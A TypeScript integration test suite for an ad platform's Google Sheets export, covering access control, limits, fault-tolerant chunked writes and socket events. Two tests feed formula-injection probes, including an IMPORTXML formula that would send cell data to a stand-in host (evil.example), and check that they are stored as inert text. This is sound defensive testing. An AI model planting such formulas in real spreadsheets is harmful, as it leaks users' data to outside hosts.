import { and, eq } from '#server/database/drizzle.ts';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { exportGoogleSheet, exportRefHeader, getExport, listExports } from '#shared/contracts/exports.ts';
import type { ExportRun } from '#shared/contracts/exports.ts';
import { googleCampaigns } from '#shared/contracts/insights.ts';
import { listNotifications } from '#shared/contracts/notifications.ts';
import type { Notification } from '#shared/contracts/notifications.ts';
import { listAdAccounts } from '#shared/contracts/adAccounts.ts';
import { insightFacts } from '#shared/insights.ts';
import { addDays, defaultRange, utcDay } from '#shared/lib/dateRange.ts';
import { updateProfile } from '#shared/contracts/users.ts';
import { messages } from '#shared/messages.ts';
import type { PlatformId } from '#shared/platforms.ts';
import { connections } from '#server/database/schema.ts';
import { readAllInsights } from '#server/modules/ads/insights.service.ts';
import { connectPlatform } from '#testing/api/connectPlatform.ts';
import { openSocket } from '#testing/api/openSocket.ts';
import type { TestSocket } from '#testing/api/openSocket.ts';
import { clearFaults, orderFaults, readSpreadsheets } from '#testing/sandbox/sandboxControl.ts';
import type { SandboxSpreadsheet } from '#testing/sandbox/sandboxControl.ts';
import { newColleague } from '#server/modules/users/workspaces/testing/newColleague.ts';
import { startTestApi } from '#testing/api/startTestApi.ts';
import type { TestApi, TestPerson } from '#testing/api/startTestApi.ts';
import { waitUntil } from '#testing/waitUntil.ts';

const range = defaultRange(utcDay(new Date()));
/** A week that is not read by default, so that only the export calls the platform. */
const oldRange = { since: addDays(range.since, -200), until: addDays(range.until, -200) };
const driveFileScope = 'https://www.googleapis.com/auth/drive.file';

type Person = TestPerson;
type Row = Record<string, unknown>;

let api: TestApi;
const sockets: TestSocket[] = [];

beforeAll(async () => {
  api = await startTestApi();
});
afterAll(() => api.close());
afterEach(async () => {
  for (const socket of sockets.splice(0)) socket.close();
  await clearFaults(api.sandbox);
});

const newPerson = async (...platforms: PlatformId[]): Promise<Person> => {
  const person = await api.registerUser();
  for (const platform of platforms) await connectPlatform(api, person, platform);
  return person;
};

const listen = async (person: Person): Promise<TestSocket> => {
  const socket = openSocket(api.url, person);
  sockets.push(socket);
  expect(await socket.handshake).toBeNull();
  return socket;
};

const post = (person: Person, body: unknown, ref?: string) =>
  api.request(exportGoogleSheet, { token: person.token, body, headers: ref ? { [exportRefHeader]: ref } : {} });

const eventsOf = (socket: TestSocket, event: string) => socket.received.filter((each) => each.event === event);

const nextEvent = (socket: TestSocket, event: string) =>
  waitUntil(() => eventsOf(socket, event).at(-1)?.payload, { what: `the event ${event}` });

/** The one spreadsheet of an export. */
const sheetOf = async (exportId: unknown): Promise<SandboxSpreadsheet> => {
  const made = (await readSpreadsheets(api.sandbox)).filter(
    (each) => each.appProperties['leadlightExport'] === exportId,
  );
  expect(made).toHaveLength(1);
  const [only] = made;
  if (!only) throw new Error(`No spreadsheet for the export ${String(exportId)}`);
  return only;
};

const rowsOf = async (exportId: unknown) => (await sheetOf(exportId)).sheets[0]?.rows;

const countSheets = async (): Promise<number> => (await readSpreadsheets(api.sandbox)).length;

const googleRows = async (person: Person): Promise<Row[]> => {
  const accounts = await api.request(listAdAccounts.google, { token: person.token });
  const customerIds = accounts.body.accounts.map((account: { id: string }) => account.id);
  const body = { startDate: range.since, endDate: range.until, customerIds };
  return (await api.request(googleCampaigns, { token: person.token, body })).body.data;
};

const facebookAccounts = async (person: Person): Promise<string[]> => {
  const { body } = await api.request(listAdAccounts.facebook, { token: person.token });
  return body.accounts.map(({ id }: { id: string }) => id.replace('act_', ''));
};

const serialDay = (day: string): number => (Date.parse(`${day}T00:00:00Z`) - Date.UTC(1899, 11, 30)) / 86_400_000;

/** Turns empty cells into empty strings and drops them at the end of a row: a sheet does not distinguish them. */
const filledCells = (cells: readonly unknown[]): unknown[] => {
  const lastFilled = cells.findLastIndex((value) => value !== null && value !== '');
  return cells.slice(0, lastFilled + 1).map((value) => value ?? '');
};

const notificationsOf = async (person: Person): Promise<Notification[]> =>
  (await api.request(listNotifications, { token: person.token })).body.data;

describe('access to exports', () => {
  test.each([
    ['the export', exportGoogleSheet],
    ['the list', listExports],
    ['one export', getExport],
  ] as const)('%s needs a session', async (_name, endpoint) => {
    const { status, body } = await api.request(endpoint, {
      params: { id: 'x' },
      body: endpoint.method === 'POST' ? [{ a: 1 }] : undefined,
    });
    expect([status, body.code]).toEqual([401, 'SESSION_EXPIRED']);
  });

  test('no export is created without the Google grant or its file permission [S6.ROLE.4]', async () => {
    const sheetsBefore = await countSheets();
    const person = await newPerson();
    const socket = await listen(person);
    const refusal = { success: false, code: 'NOT_CONNECTED', message: messages.exports.googleNotConnected };
    expect(await post(person, { data: [{ name: 'Ada Example' }] })).toEqual({ status: 403, body: refusal });

    socket.socket.emit('google_export_Sheet', {
      userId: person.userId,
      platform: 'google',
      timestamp: new Date().toISOString(),
      dateRange: range,
    });
    expect(await nextEvent(socket, 'export_error')).toMatchObject({ message: messages.exports.googleNotConnected });

    await connectPlatform(api, person, 'google', { untick: [driveFileScope] });
    expect((await post(person, { data: [{ name: 'Ada Example' }] })).status).toBe(403);
    expect(await countSheets()).toBe(sheetsBefore);
  });

  test('a grant that Google revoked is reported as lost; other failures are not', async () => {
    const sheetsBefore = await countSheets();
    const person = await newPerson('google');
    await orderFaults(api.sandbox, { provider: 'google', path: '/drive/', kind: 'permission' });
    const refused = await post(person, [{ name: 'Ada Example' }]);
    expect([refused.status, refused.body.code]).toEqual([502, 'PLATFORM_FAILED']);
    await orderFaults(api.sandbox, { provider: 'google', path: '/drive/', kind: 'revoked' });
    const ended = await post(person, [{ name: 'Ada Example' }]);
    expect([ended.status, ended.body]).toEqual([
      409,
      {
        success: false,
        message: messages.exports.goesOnAfterReconnect(messages.connections.reconnect('google')),
        code: 'RECONNECT_NEEDED',
      },
    ]);
    expect(await countSheets()).toBe(sheetsBefore);
  });

  test('a user of another workspace sees neither the export nor its notification', async () => {
    const [owner, other] = [await newPerson('google'), await newPerson('google')];
    const { body } = await post(owner, [{ name: 'Ada Example' }]);
    const asked = (person: Person, id: string) => api.request(getExport, { token: person.token, params: { id } });
    expect((await asked(owner, body.data.id)).body.data).toEqual(body.data);
    expect((await asked(other, body.data.id)).status).toBe(404);
    for (const id of ['no-such-id', 'a\u0000b']) expect((await asked(owner, id)).status).toBe(404);
    expect((await api.request(listExports, { token: owner.token })).body.data.map((run: ExportRun) => run.id)).toEqual([
      body.data.id,
    ]);
    expect((await api.request(listExports, { token: other.token })).body.data).toEqual([]);
  });

  test('a colleague sees the workspace exports but gets no notification', async () => {
    const owner = await newPerson('google');
    const colleague = await newColleague(api, owner);
    const { body } = await post(owner, [{ name: 'Ada Example' }]);
    await api.waitUntil(async () => (await notificationsOf(owner)).some(({ event }) => event.endsWith('_complete')));
    const { data } = (await api.request(listExports, { token: colleague.token })).body;
    expect(data.map(({ id }) => id)).toEqual([body.data.id]);
    const one = { token: colleague.token, params: { id: body.data.id } };
    expect((await api.request(getExport, one)).body.data).toEqual(data[0]);
    const { data: notified } = (await api.request(listNotifications, { token: colleague.token })).body;
    expect(notified.filter(({ event }) => event.endsWith('_complete'))).toEqual([]);
  });
});

test('a workspace can have at most twenty running exports', async () => {
  const person = await newPerson('google');
  // Each waits three seconds for its event, so all of them are open at once.
  const posts = Array.from({ length: 21 }, (_, index) => post(person, [{ index }], `facebook:${Date.now() + index}`));
  const refused = (await Promise.all(posts)).filter(({ status }) => status !== 200);
  expect(refused).toEqual([{ status: 429, body: expect.objectContaining({ message: messages.exports.tooMany }) }]);
});

describe('posted rows', () => {
  test('are written cell by cell, whatever their shape [S7.EXP.6]', async () => {
    const person = await newPerson('google');
    const socket = await listen(person);
    const data = [
      {
        name: '=IMPORTXML("http://evil.example/?"&A1)',
        phone: '+49170555',
        id: '120210987654321098',
        note: '@cmd',
        zero: '007',
        n: 12.5,
        on: true,
      },
      {
        name: '-1+1',
        phone: '',
        id: '1',
        note: 'NUL\u0000 \ud800 😀',
        zero: '1/2',
        n: -3,
        on: false,
        extra: null,
        __v: 0,
      },
    ];
    const { status, body } = await post(person, { data });
    expect(status).toBe(200);
    const { url, sheets } = await sheetOf(body.data.id);
    expect(body).toEqual({
      success: true,
      message: 'Google Sheet created with 2 rows',
      url,
      data: expect.objectContaining({
        state: 'complete',
        rowsWritten: 2,
        rowsTotal: 2,
        url,
        error: null,
        platform: null,
      }),
    });
    expect(sheets).toHaveLength(1);
    expect(sheets[0]).toMatchObject({ rowCount: 3, columnCount: 9, frozenRowCount: 1, boldHeader: true, formulas: [] });
    expect(sheets[0]?.rows.map(filledCells)).toEqual([
      ['name', 'phone', 'id', 'note', 'zero', 'n', 'on', 'extra', '__v'],
      ['=IMPORTXML("http://evil.example/?"&A1)', '+49170555', '120210987654321098', '@cmd', '007', 12.5, true],
      ['-1+1', '', '1', 'NUL \ufffd 😀', '1/2', -3, false, '', 0],
    ]);
    // The lead screens have no platform, so a separate event reports the end.
    expect(await nextEvent(socket, 'list_export_complete')).toMatchObject({ url, error: null, exportId: body.data.id });
    expect((await notificationsOf(person)).map(({ event }) => event)).toEqual([
      'google_connected',
      'list_export_complete',
    ]);
  });

  test('are refused with a clear message when empty or too many', async () => {
    const person = await newPerson('google');
    for (const empty of [{ data: [] }, {}, [], { data: {} }, { data: null }])
      expect(await post(person, empty)).toMatchObject({
        status: 400,
        body: { message: 'No data to export', code: 'NOTHING_TO_EXPORT' },
      });
    const tooMany = await post(
      person,
      Array.from({ length: 50_001 }, () => ({ a: 1 })),
    );
    expect([tooMany.status, tooMany.body.code]).toEqual([413, 'EXPORT_TOO_LARGE']);
    expect(tooMany.body.message).toContain('50,001 rows, at most 50,000');
    expect((await post(person, [{ text: 'x'.repeat(50_001) }])).body.message).toContain('50,001 characters');
    expect((await post(person, ['text'])).body.code).toBe('VALIDATION');
    expect((await post(person, [{ a: 1 }], 'google')).body.code).toBe('VALIDATION');
  });

  test('in many chunks arrive complete and in order despite throttling and lost responses', async () => {
    const person = await newPerson('google');
    const rows = Array.from({ length: 12_001 }, (_, index) => ({ index, id: `00${index}`, text: `row ${index}` }));
    await orderFaults(
      api.sandbox,
      // The search for an earlier file succeeds, then the response to the create call is lost.
      { provider: 'google', path: '/drive/v3/files', kind: 'slow', delayMs: 0 },
      { provider: 'google', path: '/drive/v3/files', kind: 'timeout-after-commit' },
      { provider: 'google', path: 'values:batchUpdate', kind: '429', retryAfterSeconds: 1 },
      { provider: 'google', path: 'values:batchUpdate', kind: 'timeout-after-commit', count: 2 },
      { provider: 'google', path: 'values:batchUpdate', kind: 'expired-token' },
    );
    const { body } = await post(person, rows);
    const run: ExportRun = await waitUntil(
      async () => {
        const { data } = (await api.request(getExport, { token: person.token, params: { id: body.data.id } })).body;
        return data.state === 'complete' ? data : null;
      },
      { what: 'the end of the export' },
    );
    expect(run.rowsWritten).toBe(12_001);
    expect(await rowsOf(run.id)).toEqual([
      ['index', 'id', 'text'],
      ...rows.map(({ index, id, text }) => [index, id, text]),
    ]);
  });
});

describe('a click on Export in Preview', () => {
  test('creates one sheet with typed cells and one completion event from a POST with a ref [S7.SOCK.21]', async () => {
    const person = await newPerson('google');
    const socket = await listen(person);
    const rows = await googleRows(person);
    expect(rows).toHaveLength(23);
    const { body } = await post(person, { data: rows }, `google:${Date.now()}`);
    const payload = await nextEvent(socket, 'google_export_complete');
    expect(body).toMatchObject({
      message: payload['message'],
      url: payload['url'],
      data: { platform: 'google', rowsWritten: 23 },
    });
    expect(payload).toEqual({
      message: 'Google export completed successfully!',
      url: body.url,
      error: null,
      exportId: body.data.id,
      notificationId: 1 + (await notificationsOf(person)).findIndex(({ event }) => event === 'google_export_complete'),
    });
    const [sheet] = (await sheetOf(body.data.id)).sheets;
    expect(sheet?.rows[0]).toEqual(expect.arrayContaining(['Date', 'Campaign ID', 'Spend']));
    const keys = insightFacts.google.columns.map(({ key }) => key);
    // Rows of campaigns without ads have empty cells.
    const cellOf = (row: (typeof rows)[number], key: string) => (row[key] === '' ? null : row[key]);
    expect(sheet?.rows.slice(1)).toEqual(rows.map((row) => keys.map((key) => cellOf(row, key))));
    expect(sheet?.values.slice(1)).toEqual(
      rows.map((row) => keys.map((key) => (key === 'date' ? serialDay(String(row[key])) : cellOf(row, key)))),
    );
    expect(sheet?.formats.map(({ range: cells, format }) => [cells, format])).toEqual(
      expect.arrayContaining([['Export!A2:A24', { numberFormat: { type: 'DATE', pattern: 'yyyy-mm-dd' } }]]),
    );
  });

  test('writes ids and leading zeros as text, days and money as numbers, and formulas as plain text', async () => {
    const person = await newPerson('google');
    const row = {
      date: '2026-11-21',
      customerName: '=1+1',
      customerId: '0012345678',
      campaignName: '+49170555',
      campaignId: '120210987654321098',
      campaignStatusLabel: '@cmd',
      adsetName: 'مرحبا بالعالم',
      adsetId: '007',
      adsetStatusLabel: '-2',
      adId: '1e5',
      adStatusLabel: '👩‍👩‍👧 é\nline',
      spend: 1234.56,
      clicks: 12,
      impressions: 98765,
      leads: 2.5,
    };
    const { body } = await post(person, { data: [row] }, `google:${Date.now()}`);
    const [sheet] = (await sheetOf(body.data.id)).sheets;
    expect(sheet?.formulas).toEqual([]);
    expect(sheet?.values[1]).toEqual(
      insightFacts.google.columns.map(({ key }) => (key === 'date' ? serialDay(row.date) : row[key])),
    );
  });

  test('repeats the last preview of these dates when only the event arrives', async () => {
    const person = await newPerson('google');
    const socket = await listen(person);
    await googleRows(person);
    socket.socket.emit('google_export_Sheet', {
      userId: person.userId,
      platform: 'google',
      timestamp: new Date().toISOString(),
      campaignCount: 23,
      dateRange: range,
    });
    const payload = await nextEvent(socket, 'google_export_complete');
    expect(await rowsOf(payload['exportId'])).toHaveLength(24);
  });

  test('uses the default accounts when only the event arrives and there is no preview [S7.SOCK.22]', async () => {
    const person = await newPerson('google', 'tiktok');
    const socket = await listen(person);
    const { body } = await api.request(listAdAccounts.tiktok, { token: person.token });
    const tiktok = body.accounts.map(({ id }: { id: string }) => id);
    await api.request(updateProfile, { token: person.token, body: { defaultAccounts: { tiktok } } });
    socket.socket.emit('tiktok_export_Sheet', {
      userId: person.userId,
      platform: 'tiktok',
      timestamp: String(Date.now()),
      dateRange: range,
    });
    const payload = await nextEvent(socket, 'tiktok_export_complete');
    expect(payload).toMatchObject({
      message: 'TikTok export completed successfully!',
      url: (await sheetOf(payload['exportId'])).url,
      error: null,
    });
    const rows = await rowsOf(payload['exportId']);
    expect(rows).toHaveLength(13);
    expect(rows?.[0]?.slice(0, 3)).toEqual(['Campaign ID', 'Campaign Name', 'Advertiser ID']);
  });

  test('fails with a clear message when there is neither a preview nor default accounts [S7.SOCK.23]', async () => {
    const person = await newPerson('google');
    const socket = await listen(person);
    socket.socket.emit('google_export_Sheet', {
      userId: person.userId,
      platform: 'google',
      timestamp: new Date().toISOString(),
      dateRange: range,
    });
    expect(await nextEvent(socket, 'export_error')).toMatchObject({ message: messages.exports.noAccounts });
  });

  test.each(['event first', 'POST first', 'at once'] as const)(
    'event and POST (%s) create one sheet and one completion event [S7.SOCK.24]',
    async (order) => {
      const person = await newPerson('google');
      const socket = await listen(person);
      const rows = await googleRows(person);
      const sheetsBefore = await countSheets();
      const moment = new Date();
      const emit = () =>
        socket.socket.emit('google_export_Sheet', {
          userId: person.userId,
          platform: 'google',
          timestamp: moment.toISOString(),
          campaignCount: 23,
          dateRange: range,
        });
      // Event and POST write the time in different formats.
      const send = () => post(person, { data: rows.slice(0, 9) }, `google:${moment.getTime()}`);
      const runs = async (): Promise<ExportRun[]> =>
        (await api.request(listExports, { token: person.token })).body.data;
      if (order !== 'POST first') emit();
      if (order === 'event first') await waitUntil(async () => (await runs()).length === 1);
      const posting = send();
      if (order === 'POST first') {
        await waitUntil(async () => (await runs()).length === 1);
        emit();
      }
      const { body } = await posting;
      const payload = await nextEvent(socket, 'google_export_complete');
      expect(payload['exportId']).toBe(body.data.id);
      expect(await rowsOf(body.data.id)).toHaveLength(10);
      // A third request for the same click joins the same export.
      expect((await send()).body.url).toBe(body.url);
      expect(await countSheets()).toBe(sheetsBefore + 1);
      expect((await notificationsOf(person)).filter(({ event }) => event === 'google_export_complete')).toHaveLength(1);
      expect(eventsOf(socket, 'google_export_complete')).toHaveLength(1);
    },
  );

  test('Facebook exports all rows of the accounts and dates, not only the rows on screen [S7.SOCK.20]', async () => {
    const person = await newPerson('google', 'facebook');
    const socket = await listen(person);
    const ad_account_ids = await facebookAccounts(person);
    const timestamp = new Date().toISOString();
    socket.socket.emit('fb_export_Sheet', {
      userId: person.userId,
      platform: 'facebook',
      timestamp,
      ad_account_ids,
      dateRange: range,
    });
    const { body } = await post(
      person,
      { data: [{ ad_id: '1', ad_name: 'only what was shown' }] },
      `facebook:${timestamp}`,
    );
    expect(await nextEvent(socket, 'fb_export_complete')).toMatchObject({
      url: body.url,
      message: 'Facebook export completed successfully!',
      error: null,
    });
    expect(await rowsOf(body.data.id)).toHaveLength(21);
    expect(eventsOf(socket, 'fb_export_complete')).toHaveLength(1);
  });

  test('exports stored rows after the grant is lost, with a remark about the loss and their age', async () => {
    const person = await newPerson('google', 'facebook');
    const socket = await listen(person);
    const ad_account_ids = await facebookAccounts(person);
    const query = { accountIds: ad_account_ids, ...range };
    await readAllInsights(api.context, person.workspaceId, 'facebook', query, { patience: 'interactive' });
    await api.context.db
      .update(connections)
      .set({ reconnectReason: 'Access was taken back.' })
      .where(and(eq(connections.workspaceId, person.workspaceId), eq(connections.platform, 'facebook')));
    const timestamp = new Date().toISOString();
    const event = { userId: person.userId, platform: 'facebook', timestamp, ad_account_ids, dateRange: range } as const;
    socket.socket.emit('fb_export_Sheet', event);
    const { message } = await nextEvent(socket, 'fb_export_complete');
    expect(message).toMatch(/The access to Facebook was lost\. .* as of \d{4}-\d\d-\d\d \d\d:\d\d UTC\.$/);
  });

  test('Facebook falls back to the posted rows when the platform fails, and sends export_error without them [S7.SOCK.23]', async () => {
    const person = await newPerson('google', 'facebook');
    const socket = await listen(person);
    const ad_account_ids = await facebookAccounts(person);
    await orderFaults(api.sandbox, { provider: 'facebook', path: '/insights', kind: '500', count: 1000 });
    const timestamp = new Date().toISOString();
    const event = { userId: person.userId, platform: 'facebook', ad_account_ids, dateRange: oldRange } as const;
    socket.socket.emit('fb_export_Sheet', { ...event, timestamp });
    const { body } = await post(person, { data: [{ ad_id: '1', ad_name: 'shown' }] }, `facebook:${timestamp}`);
    const { message } = await nextEvent(socket, 'fb_export_complete');
    expect(message).toContain(messages.exports.shownRowsOnly('facebook'));
    expect(await rowsOf(body.data.id)).toEqual([
      ['ad_id', 'ad_name'],
      ['1', 'shown'],
    ]);

    socket.socket.emit('fb_export_Sheet', { ...event, timestamp: String(Date.now()) });
    expect(await nextEvent(socket, 'export_error')).toMatchObject({
      message: messages.platform.unavailable('facebook'),
    });
  });

  test('a foreign ad account in the event is not exported', async () => {
    const person = await newPerson('google', 'facebook');
    const socket = await listen(person);
    const event = { userId: person.userId, ad_account_ids: ['999'], dateRange: range, platform: 'facebook' as const };
    socket.socket.emit('fb_export_Sheet', { ...event, timestamp: new Date().toISOString() });
    expect(await nextEvent(socket, 'export_error')).toMatchObject({ message: messages.platform.foreignAccount });
  });
});
